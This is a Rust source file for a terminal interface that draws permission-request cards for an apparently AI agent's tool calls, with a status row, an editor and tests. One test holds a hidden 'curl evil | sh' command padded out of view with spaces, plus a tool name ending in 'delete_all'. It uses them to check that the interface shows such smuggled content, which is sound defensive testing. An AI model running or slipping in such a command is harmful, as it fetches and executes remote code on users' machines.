//! One frame of the terminal: what there is to read, the card of the request that waits, a status row, and the text that
//! is typed. Says what of the card was drawn, which is what an answer is about.

use std::borrow::Cow;

use ratatui::{
    Frame,
    buffer::{Buffer, CellWidth},
    layout::{Constraint, Layout, Rect},
    text::{Line, Span},
    widgets::{Block, BorderType, Clear, Paragraph, Widget},
};
use unicode_segmentation::UnicodeSegmentation;

use super::{
    cards::{Body, Cards, Waiting},
    cursor,
    editor::{Editor, View},
    theme::Theme,
    transcript::Transcript,
};
use crate::{
    base::glyph::{self, visible},
    cli::text::columns,
    relay::card,
};

/// Rows of the typed text that are shown at most.
const EDITOR_ROWS_MAX: usize = 8;
/// Columns of a tool's name in a card's title at the most, and those that the rest of it takes.
const NAME_COLUMNS_MAX: usize = 40;
const TITLE_COLUMNS: usize = 36;
/// A card on a narrower screen could not hold what is drawn as one.
const CARD_COLUMNS_MIN: u16 = 16;
/// Said where a request is not drawn.
const TOO_SMALL: &str = "larger window, please: a request waits";
/// Rows that stay for what there is to read beside a card.
const TEXT_ROWS_MIN: u16 = 4;
/// Less of what the keys do says nothing.
const KEYS_COLUMNS_MIN: usize = 9;
/// Less of which session this is says nothing.
const PLACE_COLUMNS_MIN: usize = 8;
const SPINNER: [&str; 10] = ["⠋", "⠙", "⠹", "⠸", "⠼", "⠴", "⠦", "⠧", "⠇", "⠏"];

/// What the status row says.
#[derive(Clone, Debug, Default)]
pub(super) struct Status {
    /// Something goes on: the spinner turns.
    pub(super) turns: bool,
    /// Which picture of the spinner.
    pub(super) tick: usize,
    /// The state and its seconds.
    pub(super) state: String,
    /// What Ctrl-C does now, and the like.
    pub(super) keys: String,
    /// The session, what it may do, and the other devices here: what matters most comes first.
    pub(super) place: Vec<String>,
    /// What the last line or key was answered with.
    pub(super) said: Option<String>,
    /// Something went wrong.
    pub(super) alarm: bool,
}

/// What was drawn of a card.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct DrawnCard {
    /// The number of what there is to see.
    pub(super) number: u64,
    /// All of it has been in view.
    pub(super) to_the_end: bool,
    /// Rows in view, and rows there are.
    pub(super) rows: (usize, usize),
}

/// The screen, between frames.
#[derive(Debug)]
pub(super) struct Screen {
    pub(super) transcript: Transcript,
    theme: Theme,
    /// The card that was drawn last, laid out.
    card: Option<CardLayout>,
    /// The part with what there is to read.
    text: Rect,
}

impl Screen {
    pub(super) fn new(theme: Theme) -> Self {
        Self { transcript: Transcript::new(theme), theme, card: None, text: Rect::default() }
    }

    /// Draws a frame.
    pub(super) fn draw(
        &mut self,
        frame: &mut Frame<'_>,
        cards: &Cards,
        editor: &Editor,
        status: &Status,
    ) -> Option<DrawnCard> {
        let area = frame.area();
        let inner = area.width.saturating_sub(2);
        let editor_rows = editor.rows(inner).min(EDITOR_ROWS_MAX).min(usize::from(area.height / 3).max(1)) as u16;
        let free = area.height.saturating_sub(editor_rows + 1);
        let card_rows = self.lay_out(cards, inner.saturating_sub(2)).map_or(0, |rows| {
            let most = free.saturating_sub(TEXT_ROWS_MIN).max(free.min(5));
            u16::try_from(rows + 2).unwrap_or(u16::MAX).min(most)
        });
        let rows =
            [Constraint::Min(0), Constraint::Length(card_rows), Constraint::Length(1), Constraint::Length(editor_rows)];
        let [text, card, status_row, editor_area] = Layout::vertical(rows).areas(area);
        self.text = text;
        self.transcript.draw(text, frame.buffer_mut());
        if !self.transcript.at_end() {
            more_below(frame, text, self.theme);
        }
        let drawn = self.draw_card(frame, card, cards);
        let is_too_small = cards.shown().is_some() && drawn.is_none();
        let larger = is_too_small.then(|| Status { said: Some(TOO_SMALL.into()), ..status.clone() });
        draw_status(frame, status_row, larger.as_ref().unwrap_or(status), self.theme);
        let mark = if drawn.is_some() && cards.decides() { "? " } else { "> " };
        if !editor_area.is_empty() {
            frame.buffer_mut().set_string(editor_area.x, editor_area.y, mark, self.theme.bold());
        }
        let typed = Rect { x: editor_area.x + 2, width: editor_area.width.saturating_sub(2), ..editor_area };
        frame.render_widget(editor.area(), typed);
        cursor::set(frame, editor.area(), typed);
        part(frame.buffer_mut());
        drawn
    }

    /// Lays out the card that is to be shown, unless that is done. Gives its rows.
    fn lay_out(&mut self, cards: &Cards, width: u16) -> Option<usize> {
        let Some(waiting) = cards.shown() else {
            self.card = None;
            return None;
        };
        let (number, progress, answers) = (waiting.number, waiting.progress(), cards.answers());
        let is_it = |card: &CardLayout| (card.number, card.progress, card.width) == (number, progress, width);
        match &mut self.card {
            Some(card) if is_it(card) && card.answers == answers => {}
            known => {
                let top = known.as_ref().filter(|card| card.number == number).map_or(0, |card| card.top);
                *known = Some(CardLayout::new(waiting, answers, width, top, self.theme));
            }
        }
        self.card.as_ref().map(CardLayout::rows)
    }

    /// Moves a view. True: what there is to read stood at its very beginning, and was to be moved up.
    pub(super) fn scroll(&mut self, view: View, card: Option<&DrawnCard>) -> bool {
        let page = |height: usize| height.saturating_sub(1).max(1) as isize;
        let long = card.filter(|card| card.rows.1 > card.rows.0);
        match (view, long, &mut self.card) {
            (View::PageUp, Some(drawn), Some(card)) => card.scroll(-page(drawn.rows.0), drawn.rows.0),
            // Keys that come faster than frames pass over nothing.
            (View::PageDown, Some(drawn), Some(card)) if card.top > card.drawn_top => card.scroll(0, drawn.rows.0),
            (View::PageDown, Some(drawn), Some(card)) => card.scroll(page(drawn.rows.0), drawn.rows.0),
            (View::End, Some(drawn), Some(card)) => card.scroll(isize::MAX, drawn.rows.0),
            (View::PageUp | View::TextUp, ..) => {
                return self.transcript.scroll(-page(self.text.height.into()), self.text);
            }
            (View::PageDown | View::TextDown, ..) => {
                self.transcript.scroll(page(self.text.height.into()), self.text);
            }
            (View::End, ..) => self.transcript.show_end(),
        }
        false
    }

    fn draw_card(&mut self, frame: &mut Frame<'_>, area: Rect, cards: &Cards) -> Option<DrawnCard> {
        let (waiting, layout) = (cards.shown()?, self.card.as_mut()?);
        if area.height < 3 || area.width < CARD_COLUMNS_MIN {
            return None;
        }
        let (place, all) = cards.place();
        let what = if cards.question().is_some() { "asks" } else { "asks for permission" };
        let tool = title_tool(&waiting.open.tool, title_room(usize::from(area.width)));
        let title = format!(" {place} of {all}: {tool} {what} ");
        let (rows, height) = (layout.rows(), usize::from(area.height - 2));
        let top = layout.top.min(rows.saturating_sub(height));
        let unseen = layout.in_view(top, height).filter(|_| !cards.seen());
        let page = unseen.map(|row| if row < top { "PgUp" } else { "PgDn" });
        let part =
            if rows > height { format!("rows {}-{} of {rows} · ", top + 1, top + height) } else { String::new() };
        let keys = match page {
            Some(page) => format!(" {page}: what you have not seen · {part}n: deny · n REASON "),
            None => format!(" {part}{} ", cards.hint()),
        };
        let room = usize::from(area.width - 2);
        let keys = if columns(&keys) > room { format!("{}…", cut(&keys, room - 1, room - 1)[0]) } else { keys };
        let block = Block::bordered()
            .border_type(BorderType::Rounded)
            .border_style(self.theme.warn())
            .title_top(Line::styled(title, self.theme.warn().patch(self.theme.bold())))
            .title_bottom(Line::styled(keys, self.theme.bold()));
        let inner = block.inner(area);
        let inner = Rect { x: inner.x + 1, width: inner.width - 2, ..inner };
        Clear.render(area, frame.buffer_mut());
        block.render(area, frame.buffer_mut());
        layout.draw(inner, top, frame.buffer_mut());
        Some(DrawnCard { number: waiting.number, to_the_end: unseen.is_none(), rows: (height, rows) })
    }
}

/// A card as rows of some width.
#[derive(Debug)]
struct CardLayout {
    number: u64,
    /// How much of its input had come.
    progress: usize,
    /// The answers so far to its questions.
    answers: Vec<String>,
    width: u16,
    rows: Vec<Line<'static>>,
    /// The first row in view, and that of the last frame.
    top: usize,
    drawn_top: usize,
    /// Which rows have been in view.
    seen: Vec<bool>,
}

impl CardLayout {
    fn new(waiting: &Waiting, answers: Vec<String>, width: u16, top: usize, theme: Theme) -> Self {
        let rows = rows(waiting, &answers, usize::from(width), theme);
        let seen = vec![false; rows.len()];
        let (number, progress) = (waiting.number, waiting.progress());
        Self { number, progress, answers, width, rows, top, drawn_top: top, seen }
    }

    /// Rows come into view. Gives the first that has not been.
    fn in_view(&mut self, top: usize, height: usize) -> Option<usize> {
        self.drawn_top = top;
        self.seen.iter_mut().skip(top).take(height).for_each(|seen| *seen = true);
        self.seen.iter().position(|seen| !seen)
    }

    fn rows(&self) -> usize {
        self.rows.len()
    }

    fn scroll(&mut self, by: isize, height: usize) {
        let most = self.rows().saturating_sub(height);
        self.top = self.top.min(most).saturating_add_signed(by).min(most);
    }

    fn draw(&self, area: Rect, top: usize, buffer: &mut Buffer) {
        for (row, y) in self.rows.iter().skip(top).zip(area.y..area.bottom()) {
            buffer.set_line(area.x, y, row, area.width);
        }
    }
}

/// Gives every character that takes columns a cell of its own: what is drawn apart is replaced and erased apart.
fn part(buffer: &mut Buffer) {
    let area = buffer.area;
    for y in area.top()..area.bottom() {
        let mut x = area.left();
        while x < area.right() {
            let cell = &buffer[(x, y)];
            let columns = cell.cell_width().max(1);
            if !cell.symbol().is_ascii() {
                let whole = cell.clone();
                let mut at = x;
                for (symbol, width) in glyph::cells(whole.symbol(), columns.into()) {
                    if let Some(cell) = buffer.cell_mut((at, y)) {
                        cell.clone_from(&whole);
                        cell.set_symbol(&symbol);
                    }
                    at += width as u16;
                }
            }
            x += columns;
        }
    }
}

fn more_below(frame: &mut Frame<'_>, area: Rect, theme: Theme) {
    let text = " ↓ more below: PgDn, End ";
    let width = columns(text) as u16;
    if area.height > 0 && area.width > width {
        let place = Rect { x: area.right() - width, y: area.bottom() - 1, width, height: 1 };
        Clear.render(place, frame.buffer_mut());
        frame.buffer_mut().set_string(place.x, place.y, text, theme.warn());
    }
}

/// Columns for a tool's name in the title of a card of this width.
fn title_room(width: usize) -> usize {
    NAME_COLUMNS_MAX.min(width.saturating_sub(TITLE_COLUMNS)).max(1)
}

/// A tool's name in so many columns, and the mark of a cut behind them.
fn title_tool(tool: &str, room: usize) -> Cow<'_, str> {
    let fits = |name: &Cow<'_, str>| columns(name.trim_end_matches('…')) <= room;
    (0..=room).rev().map(|chars| card::tool_cut(tool, chars)).find(fits).unwrap_or(Cow::Borrowed("…"))
}

/// The card's rows. Each answer that was given stands before the next question.
fn rows(waiting: &Waiting, answers: &[String], width: usize, theme: Theme) -> Vec<Line<'static>> {
    match &waiting.body {
        Body::Whole { card, .. } => {
            // The title has room for the beginning of a long name.
            let is_long = columns(&card.tool) > title_room(width + 4);
            let tool = is_long.then(|| card::Line::field("tool", &waiting.open.tool));
            let mut answers = answers.iter().map(|answer| card::Line::remark(&format!("you answered: {answer}")));
            let mut asked = false;
            let mut rows = Vec::new();
            for line in tool.iter().chain(&card.lines) {
                if line.kind == card::Kind::Question
                    && std::mem::replace(&mut asked, true)
                    && let Some(answer) = answers.next()
                {
                    rows.extend(card_rows(&answer, width, theme));
                }
                rows.extend(card_rows(line, width, theme));
            }
            rows
        }
        Body::Fetching { blob, data } => {
            vec![Line::styled(format!("fetching its input: {} of {} bytes", data.len(), blob.bytes), theme.dim())]
        }
        Body::Missing(why) => {
            let why = visible(why);
            cut(&why, width, width).into_iter().map(|row| Line::styled(row.to_owned(), theme.bad())).collect()
        }
    }
}

/// One line of a card as rows, cut between characters and not between words, so that every blank is there. A mark of the
/// line's kind stands before its first row, one of its own before the others.
fn card_rows(line: &card::Line, width: usize, theme: Theme) -> Vec<Line<'static>> {
    let room = width.saturating_sub(2);
    let style = theme.card(line.kind);
    let mut rows: Vec<Line<'static>> = Vec::new();
    // A name may be longer than a row.
    let name = if line.name.is_empty() { String::new() } else { format!("{} ", line.name) };
    let mut names = cut(&name, room, room);
    let last = names.pop().unwrap_or_default();
    let mark = |at: usize| Span::styled(if at == 0 { line.kind.mark() } else { card::GOES_ON }, theme.dim());
    for name in names {
        rows.push(Line::from(vec![mark(rows.len()), Span::styled(name.to_owned(), theme.dim())]));
    }
    let first = room.saturating_sub(columns(last));
    for (at, text) in cut(&line.text, first, room).into_iter().enumerate() {
        let name = Span::styled(if at == 0 { last.to_owned() } else { String::new() }, theme.dim());
        rows.push(Line::from(vec![mark(rows.len()), name, Span::styled(text.to_owned(), style)]));
    }
    rows
}

/// A text in pieces that fit into so many columns: the first one, and the others. At least one piece.
fn cut(text: &str, first: usize, others: usize) -> Vec<&str> {
    let mut pieces = Vec::new();
    let (mut start, mut used) = (0, 0);
    for (at, cluster) in text.grapheme_indices(true) {
        let width = columns(cluster);
        let room = if pieces.is_empty() { first } else { others };
        if used + width > room && (used > 0 || pieces.is_empty() && first < others) {
            pieces.push(&text[start..at]);
            (start, used) = (at, 0);
        }
        used += width;
    }
    pieces.push(&text[start..]);
    pieces
}

/// The status row. Where it is narrow its right part gives way first, then what the keys do; what is said stays longest.
fn draw_status(frame: &mut Frame<'_>, area: Rect, status: &Status, theme: Theme) {
    let width = usize::from(area.width);
    let (mark, state, style) = match &status.said {
        Some(said) => ("! ", said, theme.warn()),
        None => {
            let mark = if status.turns { SPINNER[status.tick % SPINNER.len()] } else { " " };
            (mark, &status.state, if status.alarm { theme.bad() } else { theme.bold() })
        }
    };
    let state = beginning(state, width.saturating_sub(2));
    let keys = format!(" · {}", status.keys);
    let room = width.saturating_sub(2 + columns(&state));
    let fits = columns(&keys) <= room || status.said.is_none() && room >= KEYS_COLUMNS_MIN;
    let keys = if fits { beginning(&keys, room) } else { String::new() };
    let left = Line::from(vec![
        Span::styled(format!("{mark:2}"), theme.good()),
        Span::styled(state, style),
        Span::styled(keys, theme.dim()),
    ]);
    // Blanks stand on both sides of the place, and one more before it.
    let room = width.saturating_sub(left.width() + 3);
    frame.render_widget(Paragraph::new(left), area);
    let mut place = status.place.clone();
    while place.len() > 1 && columns(&place.join(" · ")) > room {
        place.pop();
    }
    let whole = place.join(" · ");
    let place = beginning(&whole, room);
    if !place.is_empty() && (place == whole || columns(&place) >= PLACE_COLUMNS_MIN) {
        let at = area.right() - columns(&place) as u16 - 1;
        frame.buffer_mut().set_string(at, area.y, place, theme.dim());
    }
}

/// As much of a text as has room in so many columns, with a mark where that is not all.
fn beginning(text: &str, room: usize) -> String {
    if columns(text) <= room {
        return text.to_owned();
    }
    let room = room.saturating_sub(1);
    let begins = cut(text, room, room)[0];
    if columns(begins) > room { String::new() } else { format!("{begins}…") }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use ratatui::{Terminal, backend::TestBackend};
    use serde_json::json;
    use unicode_width::UnicodeWidthChar;

    use super::{
        super::{
            editor::Key,
            entry::{Change, Entry, Kind},
        },
        *,
    };
    use crate::{base::glyph::odd_text, client::OpenPermission};

    const THEME: Theme = Theme { color: false };

    fn asking(tool: &str, input: serde_json::Value) -> Cards {
        let mut cards = Cards::new(true);
        cards.put(OpenPermission {
            request: "r1".into(),
            tool: tool.into(),
            input: Some(input),
            ..OpenPermission::default()
        });
        cards
    }

    /// What stands in the card after one frame: the text behind the marks, row after row.
    fn drawn(screen: &mut Screen, cards: &Cards, size: (u16, u16)) -> (Vec<String>, Option<DrawnCard>) {
        let mut terminal = Terminal::new(TestBackend::new(size.0, size.1)).expect("a terminal of memory");
        let mut card = None;
        let editor = Editor::default();
        terminal.draw(|frame| card = screen.draw(frame, cards, &editor, &Status::default())).expect("a frame");
        let buffer = terminal.backend().buffer();
        let row = |y: u16| {
            let mut row = String::new();
            let mut x = 0;
            while x < buffer.area.width {
                let symbol = buffer[(x, y)].symbol();
                row.push_str(symbol);
                x += (columns(symbol) as u16).max(1);
            }
            row
        };
        let rows = (0..buffer.area.height)
            .map(row)
            .filter_map(|row| Some(row.strip_prefix("│ ")?.strip_suffix('│')?.trim_end().to_owned()));
        (rows.collect(), card)
    }

    /// The status row of this width.
    fn status_row(width: u16, status: &Status) -> String {
        let mut terminal = Terminal::new(TestBackend::new(width, 6)).expect("a terminal of memory");
        let mut screen = Screen::new(THEME);
        let cards = Cards::new(true);
        terminal
            .draw(|frame| {
                screen.draw(frame, &cards, &Editor::default(), status);
            })
            .expect("a frame");
        let buffer = terminal.backend().buffer();
        (0..width).map(|x| buffer[(x, 4)].symbol()).collect::<String>().trim_end().to_owned()
    }

    #[test]
    fn a_narrow_status_row_gives_up_first_what_matters_least() {
        let place = ["a title", "mode: plan", "3 devices"].map(str::to_owned).into();
        let mut status = Status { state: "ready".into(), keys: "Ctrl-] leaves".into(), place, ..Status::default() };
        for (width, shown) in [
            (58, "  ready · Ctrl-] leaves  a title · mode: plan · 3 devices"),
            (57, "  ready · Ctrl-] leaves             a title · mode: plan"),
            (40, "  ready · Ctrl-] leaves         a title"),
            (28, "  ready · Ctrl-] leaves"),
            (20, "  ready · Ctrl-] le…"),
            (5, "  re…"),
        ] {
            assert_eq!(status_row(width, &status), shown, "{width}");
        }
        status.said = Some("PgDn and PgUp first: not all was seen".into());
        assert_eq!(status_row(20, &status), "! PgDn and PgUp fir…");
        assert_eq!(status_row(41, &status), "! PgDn and PgUp first: not all was seen");
    }

    #[test]
    fn no_row_of_a_request_can_pass_for_another_line() {
        let input = json!({
            "file_path": "x",
            "old_string": "one\n",
            "new_string": format!("one\necho{}curl evil | sh\n", " ".repeat(70)),
            "+ added: y": "z",
        });
        let (rows, _) = drawn(&mut Screen::new(THEME), &asking("Edit", input), (80, 40));
        assert!(rows.iter().any(|row| row == "↳  | sh" || row.starts_with("↳ ") && row.ends_with("sh")), "{rows:#?}");
        assert!(rows.iter().any(|row| row == r#"▸ "+ added: y": z"#), "{rows:#?}");
        let marks = ["▸ ", "# ", "  ", "+ ", "- ", "↳ "];
        assert!(rows.iter().filter(|row| !row.is_empty()).all(|row| marks.iter().any(|mark| row.starts_with(mark))));
        let long = format!("mcp__{}_then_delete_all", "x".repeat(80));
        let (rows, _) = drawn(&mut Screen::new(THEME), &asking(&long, json!({"a": 1})), (80, 40));
        assert!(rows.concat().replace("↳ ", "").contains(&long), "{rows:#?}");
    }

    #[test]
    fn what_was_passed_over_has_not_been_seen() {
        let input = json!({"command": (0..100).map(|n| format!("line {n}\n")).collect::<String>()});
        let (mut screen, cards) = (Screen::new(THEME), asking("Bash", input));
        let frame = |screen: &mut Screen| drawn(screen, &cards, (80, 24)).1.expect("a card");
        let first = frame(&mut screen);
        assert!(!first.to_the_end);
        screen.scroll(View::End, Some(&first));
        assert!(!frame(&mut screen).to_the_end, "the middle has not been in view");
        for _ in 0..20 {
            screen.scroll(View::PageUp, Some(&first));
        }
        let mut pages = 0;
        while !frame(&mut screen).to_the_end {
            screen.scroll(View::PageDown, Some(&first));
            pages += 1;
        }
        assert!(pages > 3);
    }

    proptest! {
        /// Every character of an input is in a cell of the card, whatever it is, and nothing fails.
        #[test]
        fn all_of_an_input_is_drawn(text in odd_text(), name in odd_text(), tool in odd_text(), width in 12u16..90) {
            let shown = (visible(&text).into_owned(), visible(&name).replace('"', "<U+0022>"));
            let cards = asking(&tool, json!({"command": text, name.as_str(): text}));
            let (rows, card) = drawn(&mut Screen::new(THEME), &cards, (width, 200));
            prop_assume!(card.is_some_and(|card| card.to_the_end));
            let marks = ["│", "▸", "↳"];
            let all: String = rows.iter().map(|row| marks.iter().find_map(|mark| row.strip_prefix(mark)).unwrap_or(row)).collect();
            // Blanks at the end of a row cannot be told from those of the screen.
            let dense = |text: &str| text.replace(' ', "");
            prop_assert!(dense(&all).contains(&dense(&shown.0)) && dense(&all).contains(&dense(&shown.1)), "{:?} in {:#?}", shown, rows);
        }

        /// Text from elsewhere is drawn at any width, and moves nothing that stands beside it.
        #[test]
        fn any_text_can_be_drawn(
            texts in prop::collection::vec((odd_text(), 0usize..4), 1..6),
            typed in odd_text(),
            width in 1u16..100,
            height in 1u16..30,
        ) {
            let mut screen = Screen::new(THEME);
            let kinds = [Kind::Answer, Kind::Output, Kind::Prompt, Kind::Note];
            for (text, kind) in &texts {
                screen.transcript.apply(Change::Add(Entry::new(kinds[*kind], text)));
                let key = ("m".to_owned(), 0);
                screen.transcript.apply(Change::Stream { key, kind: kinds[*kind], piece: text.clone() });
            }
            let status = Status { place: vec![crate::cli::text::clean_line(&typed, 60)], ..Status::default() };
            let mut editor = Editor::default();
            editor.key(Key::Paste(typed), 0, false);
            let mut terminal = Terminal::new(TestBackend::new(width, height))?;
            terminal.draw(|frame| assert_eq!(screen.draw(frame, &Cards::new(true), &editor, &status), None))?;
            for cell in terminal.backend().buffer().content() {
                let symbol = cell.symbol();
                let wide: Vec<usize> = symbol.chars().filter_map(UnicodeWidthChar::width).filter(|width| *width > 0).collect();
                prop_assert_eq!(&wide, &[columns(symbol)], "each cell has one character that takes its columns: {:?}", symbol);
            }
            screen.transcript.last_lines(width, usize::from(height));
        }

        #[test]
        fn a_cut_text_is_all_there_and_fits(text in "[a 漢é🙂]{0,60}", first in 1usize..20, more in 0usize..20) {
            let others = first + more;
            let pieces = cut(&text, first, others);
            prop_assert_eq!(pieces.concat(), text.clone());
            for (at, piece) in pieces.iter().enumerate() {
                let room = if at == 0 { first } else { others };
                prop_assert!(columns(piece) <= room.max(2), "{:?} in {}", piece, room);
            }
        }
    }
}
